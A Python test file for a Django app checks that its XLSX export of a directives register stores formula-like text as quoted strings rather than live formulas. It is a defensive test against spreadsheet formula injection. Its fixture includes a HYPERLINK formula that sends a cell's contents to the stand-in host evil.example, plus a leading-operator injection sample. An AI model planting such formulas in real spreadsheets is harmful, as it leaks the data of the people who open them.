"""The directives register as XLSX: directive text a spreadsheet would run is text, never a
formula (it is written by the one spreadsheet writer, degs/core/tabular.py)."""

from __future__ import annotations

import io

from django.urls import reverse
from openpyxl import load_workbook

LINK = '=HYPERLINK("http://evil.example/?d="&C2, "Open")'


def test_register_export_carries_no_live_formula(world, reviews, client_as) -> None:
    reviews.directive(text=LINK, text_hi="-1+1 सुनिश्चित करें")
    export = client_as(world.dio_a).get(reverse("reviews:register"), {"format": "xlsx"})
    cells = [c for row in load_workbook(io.BytesIO(export.content)).active.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for text in (LINK, "-1+1 सुनिश्चित करें"):
        [cell] = [c for c in cells if c.value == text]
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
